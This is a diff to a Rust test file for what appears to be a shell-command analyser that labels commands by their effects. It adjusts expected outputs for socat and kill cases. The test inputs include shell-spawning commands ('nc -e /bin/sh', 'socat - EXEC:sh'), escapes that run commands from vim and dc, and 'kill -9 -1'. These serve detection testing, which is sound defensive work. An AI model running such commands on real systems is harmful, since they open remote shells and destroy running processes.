@@ -319,7 +319,7 @@ fn code_in_arguments_is_seen() {
         ("vim f", "update file f reversible; exec code D: (unknown) unknown"),
         ("vim -c '!id' f", "exec code !id unknown; update file f reversible; exec code D: (unknown) unknown"),
         ("nc -e /bin/sh h 1", "send host h unknown; run /bin/sh"),
-        ("socat - EXEC:sh", "exec code - unknown; exec code EXEC:sh unknown"),
+        ("socat - EXEC:sh", "exec code - unknown; exec code EXEC:sh unknown; run sh"),
         ("dc -e '!id'", "exec code D: (unknown) unknown"),
         ("dc -e '1 2 + p'", "nothing"),
         ("tcpdump -z ./x", "get machine ; run ./x D:{}"),
@@ -343,7 +343,7 @@ const MACHINE: &[(&str, &str)] = &[
     ("kill -9 -1", "delete process -1 (root) irreversible"),
     ("kill -- -1", "delete process -1 (root) irreversible"),
     ("kill -TERM -5", "delete process -5 (selection) irreversible"),
-    ("kill -s 9 1 -1", "delete process 1 irreversible; delete process -1 (root) irreversible"),
+    ("kill -s 9 7 -1", "delete process 7 irreversible; delete process -1 (root) irreversible"),
     (
         "kill -9 -5 -l 7",
         "delete process -5 (selection) irreversible; delete process -l (selection) irreversible; delete process 7 irreversible",
